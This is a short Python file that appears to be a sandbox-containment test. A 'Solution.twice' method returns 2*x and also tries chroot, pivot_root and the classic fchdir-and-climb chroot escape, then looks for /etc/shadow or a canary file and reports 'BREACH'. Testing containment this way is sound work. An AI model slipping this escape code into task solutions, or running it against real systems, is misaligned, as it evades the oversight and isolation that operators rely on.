import ctypes
import errno
import os
import sys

libc = ctypes.CDLL(None, use_errno=True)


def attempt(what, result):
    print(what if result < 0 else "BREACH: " + what, errno.errorcode.get(ctypes.get_errno()), file=sys.stderr)


class Solution:
    def twice(self, x):
        os.makedirs("/work/jail/put_old", exist_ok=True)
        root = os.open("/", os.O_RDONLY)
        attempt("chroot", libc.chroot(b"/work/jail"))
        attempt("chroot /proc/1/root", libc.chroot(b"/proc/1/root"))
        attempt("pivot_root", libc.syscall(155, b"/work/jail", b"/work/jail/put_old"))
        # The classic: keep a descriptor outside, change the root, climb.
        os.fchdir(root)
        for _ in range(64):
            os.chdir("..")
        attempt("chroot .", libc.chroot(b"."))
        if os.path.exists("etc/shadow") or os.path.exists("@CANARY_FILE@"):
            print("BREACH: the host's root", file=sys.stderr)
        os.chdir("/work")
        return 2 * x
